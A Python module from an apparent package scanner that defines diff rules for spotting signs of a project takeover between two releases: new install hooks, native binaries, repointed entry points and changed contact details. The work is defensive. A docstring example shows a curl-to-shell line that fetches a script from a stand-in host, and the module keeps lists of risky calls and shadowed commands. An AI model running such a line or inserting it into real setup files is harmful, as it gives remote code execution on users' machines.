"""Diff rules (DOU12xx): what a release adds since the previous release of the same project.

A hijacked maintainer account or a malicious takeover shows as a *change*: an established
project that never ran code at install suddenly does, gains a native binary, repoints a console
script or changes its contact address. These rules run only when the scanner supplies the
previous release (``ArtifactContext.previous``: ``douane scan NEW --previous OLD``, or the
index's previous release); without it they stay silent.

Findings are compared by ``(rule, file, snippet)`` after normalisation (sdist root and version
numbers removed, whitespace collapsed), never by line number, so code that merely moved is not
new. :func:`mark_new` applies the same comparison to every finding of a scan.
"""

from __future__ import annotations

import ast
import configparser
import re
import tomllib
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import replace
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from douane.analysis.context import PyContext, const_str
from douane.analysis.interface import FileType, Hit, Tag
from douane.analysis.pyapi import DECODERS, DYNAMIC_EXEC, NETWORK_ANY, PROCESS_ANY, matches
from douane.analysis.registry import artifact_rule
from douane.domain import Confidence, Family, Finding, Severity, Where, snip

if TYPE_CHECKING:
    from douane.analysis.context import ArtifactContext, FileContext

# Families whose findings describe behaviour (what the code does), as opposed to names,
# metadata or archive shape: a new one in an established project is what a takeover adds.
BEHAVIOUR_FAMILIES = frozenset({
    Family.INSTALL_TIME, Family.PROCESS, Family.DYNAMIC_CODE, Family.DOWNLOAD,
    Family.EXFILTRATION, Family.PERSISTENCE, Family.OBFUSCATION, Family.PAYLOAD_FILES,
})  # fmt: skip

# Calls that make an install hook dangerous when setup.py gains them.
RISKY_SETUP_CALLS = PROCESS_ANY | NETWORK_ANY | DECODERS | DYNAMIC_EXEC | frozenset({
    "__import__", "importlib.import_module", "ctypes.*", "ctypes.CDLL", "ctypes.WinDLL",
    "webbrowser.open", "shutil.copy", "os.remove", "os.chmod", "getpass.getuser",
    "platform.node", "socket.gethostname",
})  # fmt: skip

# Commands a console script must never shadow: installing the package would hijack them.
SHADOWED_COMMANDS = frozenset({
    "pip", "pip3", "python", "python3", "sudo", "ssh", "git", "ls", "cd", "curl", "wget", "bash",
    "sh", "node", "npm", "conda", "poetry", "uv", "pytest", "docker", "kubectl", "aws", "gcloud",
    "az",
})  # fmt: skip

_VERSIONISH = re.compile(r"(?<![\w.])v?\d+(?:\.\d+)+(?:[-.]?(?:a|b|rc|post|dev)\d*)*(?![\d])")
_SDIST_ROOT = re.compile(r"^[^/]+-v?(?:#|\d+)/")
_META_DIR = re.compile(r"^([^/]+?)-#(\.(?:dist-info|data|egg-info))/")
_ABI_TAG = re.compile(
    r"\.(?:cpython|cp|pypy|graalpy)[-\w]*?(?=\.(?:so|pyd|dylib)$)|\.abi3(?=\.(?:so|pyd)$)"
)
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_HOMEPAGE_LABELS = frozenset({"homepage", "home", "home-page", "source", "source-code",
                              "sourcecode", "repository", "code", "github"})  # fmt: skip
_NATIVE_MAGIC = (b"\x7fELF", b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf", b"\xce\xfa\xed\xfe",
                 b"\xcf\xfa\xed\xfe")  # fmt: skip


# -- comparing findings -------------------------------------------------------------------------


def normalise_path(path: str) -> str:
    """A member path as it would read in any release: sdist root, version numbers in
    ``.dist-info``/``.data`` folders and interpreter tags of extension modules removed."""
    p = _VERSIONISH.sub("#", path.replace("\\", "/"))
    p = _META_DIR.sub(r"\1\2/", p)
    m = _SDIST_ROOT.match(p)
    if m and not m.group(0).rstrip("/").endswith((".dist-info", ".data", ".egg-info")):
        p = p[m.end() :]
    return _ABI_TAG.sub("", p)


def normalise_snippet(snippet: str) -> str:
    """Whitespace collapsed and version numbers blanked: a bumped ``version="1.2"`` or a URL
    with the release number in it is not new behaviour."""
    return _VERSIONISH.sub("#", " ".join(snippet.replace("…", "").split()))


def finding_key(f: Finding) -> tuple[str, str, str]:
    """What identifies "the same finding" across two releases (no line number: code moves)."""
    return f.rule, normalise_path(f.file), normalise_snippet(f.snippet)


def mark_new(findings: Iterable[Finding], previous_findings: Iterable[Finding]) -> list[Finding]:
    """Each finding with ``new`` set: False when the previous release had the same finding
    (same rule, file and snippet after normalisation), True otherwise. Counted as a multiset:
    a line that appears twice now and once before yields one new finding."""
    before = Counter(finding_key(f) for f in previous_findings)
    out = []
    for f in findings:
        k = finding_key(f)
        if before[k] > 0:
            before[k] -= 1
            out.append(replace(f, new=False))
        else:
            out.append(replace(f, new=True))
    return out


# -- helpers over one release -------------------------------------------------------------------


def _same_kind(ctx: ArtifactContext) -> bool:
    """Layout comparisons (files present, setup.py, .pth) only mean something between two
    artifacts of the same kind: an sdist has setup.py and a platform wheel has .so files."""
    return ctx.previous is not None and ctx.previous.kind is ctx.kind


def _setup_calls(fctx: FileContext) -> list[tuple[str, int]]:
    """Every resolved call name in setup.py with its line (imports and aliases resolved)."""
    try:
        tree = ast.parse(fctx.text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return []
    pctx = PyContext(fctx, tree)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for a in node.names:
                head = a.name.split(".", 1)[0]
                pctx.aliases[a.asname or head] = a.name if a.asname else head
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for a in node.names:
                pctx.aliases[a.asname or a.name] = f"{node.module}.{a.name}"
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = pctx.call_name(node)
            if name:
                out.append((name, node.lineno))
    return sorted(out, key=lambda x: x[1])


def _has_install_override(ctx: ArtifactContext) -> tuple[bool, int | None]:
    """Does setup.py override setuptools commands (``cmdclass=``, or a class deriving from an
    install-time command)? With the line that shows it."""
    f = ctx.file("setup.py")
    if f is None:
        return False, None
    for i, line in enumerate(f.lines, 1):
        if re.search(r"\bcmdclass\b", line) or re.match(
            r"\s*class\s+\w+\s*\(\s*[\w.]*\b(install|develop|egg_info|build_py|build_ext|"
            r"sdist|bdist_wheel|easy_install)\b",
            line,
        ):
            return True, i
    if "cmdclass" in ctx.setup_kwargs:
        return True, ctx.setup_kwargs.get("_line")
    return False, None


def _pth_files(ctx: ArtifactContext) -> dict[str, FileContext]:
    return {normalise_path(f.rel_path): f for f in ctx.files if f.file_type is FileType.PTH}


def _pth_runs_code(f: FileContext) -> int | None:
    """Line of the first ``import`` line of a .pth (the lines Python executes at start-up)."""
    for i, line in enumerate(f.lines, 1):
        if line.startswith(("import ", "import\t")):
            return i
    return None


def _is_native_binary(data: bytes, path: str) -> bool:
    if data.startswith(_NATIVE_MAGIC):
        return True
    if data.startswith(b"\xca\xfe\xba\xbe"):  # Mach-O universal, or a Java class file
        return not path.lower().endswith(".class")
    if data.startswith(b"MZ") and len(data) >= 64:
        off = int.from_bytes(data[0x3C:0x40], "little")
        return data[off : off + 4] == b"PE\0\0" if off + 4 <= len(data) else True
    return False


def _binaries(ctx: ArtifactContext) -> dict[str, FileContext]:
    return {
        normalise_path(f.rel_path): f
        for f in ctx.files
        if _is_native_binary(f.member.data[:4096], f.rel_path)
    }


# entry points: {group: {name: target}} with where each was read (file, line)
EntryPoints = dict[str, dict[str, tuple[str, str, int | None]]]


def _line_of(f: FileContext, name: str, header: str | None) -> int | None:
    """Line declaring entry point ``name`` (``name =`` / ``"name = …"``), searched after the
    line holding ``header`` (its group) when there is one."""
    decl = re.compile(rf"""(^|[\s'"]){re.escape(name)}\s*=""")
    start = 0
    if header is not None:
        start = next((i for i, line in enumerate(f.lines) if header in line), 0)
    for i, line in enumerate(f.lines[start:], start + 1):
        if decl.search(line):
            return i
    return None


def _add_ep(out: EntryPoints, group: str, spec: str, f: FileContext, header: str | None) -> None:
    name, sep, target = spec.partition("=")
    if not sep or not name.strip():
        return
    name, target = name.strip(), " ".join(target.split())
    out.setdefault(group.strip(), {})[name] = (target, f.path, _line_of(f, name, header))


def entry_points(ctx: ArtifactContext) -> EntryPoints:
    """Entry points declared anywhere the build would read them: ``entry_points.txt`` (wheels,
    ``.egg-info``), ``setup.cfg``, ``pyproject.toml`` and literal ``setup(entry_points=…)``."""
    out: EntryPoints = {}
    for f in ctx.files:
        base = f.rel_path.rsplit("/", 1)[-1]
        try:
            if base == "entry_points.txt" and f.rel_path.count("/") <= 1:
                parser = configparser.ConfigParser(interpolation=None, delimiters=("=",))
                parser.optionxform = str  # type: ignore[assignment,method-assign]
                parser.read_string(f.text)
                for group in parser.sections():
                    for name, target in parser.items(group):
                        _add_ep(out, group, f"{name}={target}", f, f"[{group}]")
            elif f.rel_path == "setup.cfg":
                parser = configparser.ConfigParser(interpolation=None)
                parser.read_string(f.text)
                if parser.has_section("options.entry_points"):
                    for group, block in parser.items("options.entry_points"):
                        for spec in block.splitlines():
                            _add_ep(out, group, spec, f, "[options.entry_points]")
            elif f.rel_path == "pyproject.toml":
                project = tomllib.loads(f.text).get("project", {})
                for key, group in (("scripts", "console_scripts"), ("gui-scripts", "gui_scripts")):
                    for name, target in (project.get(key) or {}).items():
                        _add_ep(out, group, f"{name}={target}", f, f"[project.{key}]")
                for group, eps in (project.get("entry-points") or {}).items():
                    for name, target in (eps or {}).items():
                        _add_ep(out, group, f"{name}={target}", f, group)
        except (configparser.Error, tomllib.TOMLDecodeError, AttributeError, TypeError):
            continue  # a broken config file is the metadata/archive rules' business
    setup = ctx.file("setup.py")
    if setup is not None and b"entry_points" in setup.member.data:
        for group, spec in _setup_entry_points(setup):
            _add_ep(out, group, spec, setup, group)
    return out


def _setup_entry_points(f: FileContext) -> list[tuple[str, str]]:
    """``(group, "name = target")`` from a literal ``setup(entry_points=…)``: a dict of lists
    of strings, or an INI-style string."""
    try:
        tree = ast.parse(f.text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return []
    out: list[tuple[str, str]] = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        for kw in node.keywords:
            if kw.arg != "entry_points":
                continue
            value = kw.value
            if isinstance(value, ast.Dict):
                for k, v in zip(value.keys, value.values, strict=False):
                    group = const_str(k)
                    if group is None:
                        continue
                    for c in ast.walk(v):
                        if isinstance(c, ast.Constant) and isinstance(c.value, str):
                            out.append((group, c.value))
            elif (text := const_str(value)) is not None:
                parser = configparser.ConfigParser(interpolation=None, delimiters=("=",))
                parser.optionxform = str  # type: ignore[assignment,method-assign]
                try:
                    parser.read_string(text)
                except configparser.Error:
                    continue
                for group in parser.sections():
                    out.extend((group, f"{n}={t}") for n, t in parser.items(group))
    return out


def _urls(ctx: ArtifactContext) -> dict[str, str]:
    """Home-page-like URLs (normalised) → the raw text, from metadata or setup() kwargs."""
    raw: list[str] = []
    for v in (ctx.metadata.get("home_page"), ctx.setup_kwargs.get("url")):
        if isinstance(v, str):
            raw.append(v)
    urls = ctx.metadata.get("project_urls")
    if isinstance(urls, dict):
        for label, url in urls.items():
            if re.sub(r"[\s_]+", "-", str(label).strip().lower()) in _HOMEPAGE_LABELS:
                raw.append(str(url))
    out = {}
    for u in raw:
        parts = urlsplit(u.strip())
        host = (parts.hostname or "").removeprefix("www.")
        if not host:
            continue
        path = parts.path.rstrip("/").removesuffix(".git").lower()
        out[f"{host}{path}"] = u.strip()
    return out


def _emails(ctx: ArtifactContext) -> set[str]:
    found: set[str] = set()
    for key in ("author_email", "maintainer_email"):
        for v in (ctx.metadata.get(key), ctx.setup_kwargs.get(key)):
            if isinstance(v, str):
                found.update(e.lower() for e in _EMAIL.findall(v))
    return found


def _meta_line(ctx: ArtifactContext, *fields: str) -> tuple[str, int | None]:
    """File and line of the first of ``fields`` in the metadata file (else setup.py)."""
    path = ctx.metadata.get("_file")
    f = next((x for x in ctx.files if x.path == path), None) if path else None
    if f is not None:
        for i, line in enumerate(f.lines[:400], 1):
            if line.split(":", 1)[0].strip().lower() in fields:
                return f.path, i
    setup = ctx.file("setup.py")
    if setup is not None:
        for i, line in enumerate(setup.lines, 1):
            if re.search(r"\b(url|author_email|maintainer_email)\s*=", line):
                return setup.path, i
    return ctx.artifact.filename, None


# -- rules ---------------------------------------------------------------------------------------


@artifact_rule(
    "DOU1201",
    "install_hook_added_since_previous",
    family=Family.DIFF,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    tags=(Tag.EXECUTE,),
)
def install_hook_added_since_previous(ctx: ArtifactContext) -> Iterator[Hit]:
    """What it does: compared with the previous release, flags install-time code that appeared:
    a new ``.pth`` file that executes ``import`` lines, a new setuptools command override
    (``cmdclass``, a class deriving from ``install``/``develop``/``egg_info``…), a setup.py
    where there was none, and new process, network, decoding or dynamic-code calls in setup.py.

    Why it matters: install hooks run on ``pip install`` with the user's rights. An established
    project rarely grows one between two releases; a hijacked account adding a payload does
    exactly that. A hook that was already there is not reported again.

    Example: version 1.4 has a plain ``setup(...)``; version 1.5 adds
    ``os.system("curl -s https://x.example.invalid/i.sh | sh")`` above it.
    """
    prev = ctx.previous
    if prev is None or not _same_kind(ctx):
        return
    before_pth = _pth_files(prev)
    for key, f in sorted(_pth_files(ctx).items()):
        line = _pth_runs_code(f)
        if key not in before_pth and line is not None:
            yield Hit(message=f"new `.pth` file `{f.rel_path}` runs code at every interpreter "
                      "start; the previous release had none like it", line=line,
                      snippet=snip(f.line_text(line)), file=f.path, where=Where.INSTALL)  # fmt: skip
    setup = ctx.file("setup.py")
    if setup is None:
        return
    prev_setup = prev.file("setup.py")
    if prev_setup is None and prev.file("pyproject.toml") is not None:
        yield Hit(message="setup.py appeared: the previous release built from pyproject.toml "
                  "alone and ran no project code at install", line=1,
                  snippet=snip(setup.line_text(1)), file=setup.path, where=Where.INSTALL,
                  severity=Severity.LOW)  # fmt: skip
    has, line = _has_install_override(ctx)
    if has and not _has_install_override(prev)[0]:
        yield Hit(message="setup.py now overrides a setuptools command (`cmdclass`): custom "
                  "code runs during install, which the previous release did not do", line=line,
                  snippet=snip(setup.line_text(line)), file=setup.path, where=Where.INSTALL)  # fmt: skip
    before = {name for name, _ in _setup_calls(prev_setup)} if prev_setup else set()
    seen: set[str] = set()
    for name, line in _setup_calls(setup):
        if name in before or name in seen or not matches(name, RISKY_SETUP_CALLS):
            continue
        seen.add(name)
        yield Hit(message=f"setup.py now calls `{name}` (not in the previous release): new "
                  "code that runs on `pip install`", line=line,
                  snippet=snip(setup.line_text(line)), file=setup.path, where=Where.INSTALL)  # fmt: skip


@artifact_rule(
    "DOU1202",
    "behaviour_finding_new_since_previous",
    family=Family.DIFF,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
)
def behaviour_finding_new_since_previous(ctx: ArtifactContext) -> Iterator[Hit]:
    """What it does: lists the behaviour findings (process, network, download, exfiltration,
    dynamic code, obfuscation, persistence, install-time, payload files) of this release that
    the previous release did not have, comparing (rule, file, snippet) so that code which only
    moved is not new. A new finding of medium severity or more in code that runs at install or
    import is medium; others are low.

    Why it matters: a takeover adds behaviour to code people already trust. What was there
    before has been installed by many and weighs less; what is new deserves the reviewer's
    first look.

    Example: 2.0.1 is 2.0.0 plus ``exec(base64.b64decode(...))`` in ``pkg/__init__.py``: the
    exec finding is reported again here as new since 2.0.0.
    """
    prev = ctx.previous
    if prev is None:
        return
    before = Counter(finding_key(f) for f in prev.findings)
    new = []
    for f in ctx.findings:
        if f.family not in BEHAVIOUR_FAMILIES or f.severity < Severity.LOW:
            continue
        k = finding_key(f)
        if before[k] > 0:
            before[k] -= 1
            continue
        if f.where is not Where.TEST:
            new.append(f)
    new.sort(key=lambda f: (-f.severity, -f.confidence, f.file, f.line or 0))
    for f in new:
        strong = f.severity >= Severity.MEDIUM and f.where in (Where.INSTALL, Where.IMPORT)
        yield Hit(message=f"new since the previous release: {f.rule} {f.name}: {f.message}",
                  line=f.line, snippet=f.snippet, file=f.file, where=f.where,
                  severity=Severity.MEDIUM if strong else None)  # fmt: skip


@artifact_rule(
    "DOU1203",
    "native_binary_added_since_previous",
    family=Family.DIFF,
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
)
def native_binary_added_since_previous(ctx: ArtifactContext) -> Iterator[Hit]:
    """What it does: flags native executables and libraries (ELF, PE, Mach-O, by their magic
    bytes) that the previous release of the same kind did not ship. When the previous release
    shipped no native binary at all, the hit is medium.

    Why it matters: a binary cannot be reviewed like source; a pure-Python project that starts
    shipping one between two releases is a classic way to slip a payload past readers. Projects
    that already build extension modules add new ones routinely (low).

    Example: 3.1 is pure Python; 3.2 adds ``pkg/bin/helper.exe``.
    """
    prev = ctx.previous
    if prev is None or not _same_kind(ctx):
        return
    before = _binaries(prev)
    for key, f in sorted(_binaries(ctx).items()):
        if key in before:
            continue
        first = not before
        yield Hit(message=f"native binary `{f.rel_path}` is new in this release"
                  + (" (the previous release shipped no native code)" if first else ""),
                  snippet=snip(f.rel_path), file=f.path, where=Where.ARCHIVE,
                  severity=Severity.MEDIUM if first else None)  # fmt: skip


@artifact_rule(
    "DOU1204",
    "entry_point_changed_since_previous",
    family=Family.DIFF,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
)
def entry_point_changed_since_previous(ctx: ArtifactContext) -> Iterator[Hit]:
    """What it does: compares entry points (console and GUI scripts, plugin groups) with the
    previous release: an existing name that now runs code of another top-level package is
    medium (within the same package, low: projects refactor their CLI); a new name is low, and
    medium when it shadows a common command (``pip``, ``python``, ``git``, ``sudo``…).

    Why it matters: repointing ``mytool = pkg.cli:main`` to a new module makes every user who
    types ``mytool`` run the new code; a script named ``pip`` hijacks the installer itself.

    Example: 1.0 has ``mytool = mytool.cli:main``; 1.1 has ``mytool = mytool_boot:run``.
    """
    prev = ctx.previous
    if prev is None:
        return
    before = entry_points(prev)
    if not before:
        return  # nothing to compare with (or not readable in the previous release)
    for group, eps in sorted(entry_points(ctx).items()):
        old = before.get(group, {})
        for name, (target, file, line) in sorted(eps.items()):
            if name in old and old[name][0] != target:
                elsewhere = _top_package(target) != _top_package(old[name][0])
                yield Hit(message=f"entry point `{name}` ({group}) now runs `{target}`, was "
                          f"`{old[name][0]}`" + (", in another package" if elsewhere else ""),
                          line=line, snippet=f"{name} = {target}", file=file,
                          where=Where.METADATA,
                          severity=Severity.MEDIUM if elsewhere else None)  # fmt: skip
            elif name not in old:
                shadows = group in ("console_scripts", "gui_scripts") and name in SHADOWED_COMMANDS
                yield Hit(message=f"new entry point `{name}` ({group}) → `{target}`"
                          + (f"; it shadows the `{name}` command" if shadows else ""),
                          line=line, snippet=f"{name} = {target}", file=file,
                          where=Where.METADATA,
                          severity=Severity.MEDIUM if shadows else None)  # fmt: skip


def _top_package(target: str) -> str:
    return target.split(":", 1)[0].split(".", 1)[0].strip()


@artifact_rule(
    "DOU1205",
    "project_contact_changed_since_previous",
    family=Family.DIFF,
    severity=Severity.LOW,
    confidence=Confidence.MEDIUM,
)
def project_contact_changed_since_previous(ctx: ArtifactContext) -> Iterator[Hit]:
    """What it does: flags a home page / source repository URL or an author or maintainer
    e-mail address that differs from the previous release's (compared after normalisation:
    scheme, ``www.``, trailing slash and ``.git`` ignored). A move to another host or another
    mail domain is medium with low confidence; a change within the same host or domain is low.

    Why it matters: whoever takes over a project often points it at their own repository or
    address. Honest projects move too (to an organisation, a new employer), so this is context
    for the other findings, not evidence on its own.

    Example: 2.3 says ``Home-page: https://github.com/alice/tool``; 2.4 says
    ``Home-page: https://tool.example.invalid``.
    """
    prev = ctx.previous
    if prev is None:
        return
    old_urls, new_urls = _urls(prev), _urls(ctx)
    if old_urls and new_urls and not (old_urls.keys() & new_urls.keys()):
        old_hosts = {k.split("/", 1)[0] for k in old_urls}
        new_hosts = {k.split("/", 1)[0] for k in new_urls}
        moved = not (old_hosts & new_hosts)
        file, line = _meta_line(ctx, "home-page", "project-url")
        url = next(iter(new_urls.values()))
        yield Hit(message=f"home page changed to `{url}` (was "
                  f"`{next(iter(old_urls.values()))}`)" + (", on another host" if moved else ""),
                  line=line, snippet=snip(url), file=file, where=Where.METADATA,
                  severity=Severity.MEDIUM if moved else None,
                  confidence=Confidence.LOW if moved else None)  # fmt: skip
    old_mail, new_mail = _emails(prev), _emails(ctx)
    added = new_mail - old_mail
    if old_mail and added and not (old_mail & new_mail):
        old_domains = {e.rsplit("@", 1)[1] for e in old_mail}
        moved = not ({e.rsplit("@", 1)[1] for e in added} & old_domains)
        file, line = _meta_line(ctx, "author-email", "maintainer-email")
        yield Hit(message=f"author/maintainer e-mail changed to {', '.join(sorted(added))} (was "
                  f"{', '.join(sorted(old_mail))})" + (", another domain" if moved else ""),
                  line=line, snippet=snip(", ".join(sorted(added))), file=file,
                  where=Where.METADATA, severity=Severity.MEDIUM if moved else None,
                  confidence=Confidence.LOW if moved else None)  # fmt: skip
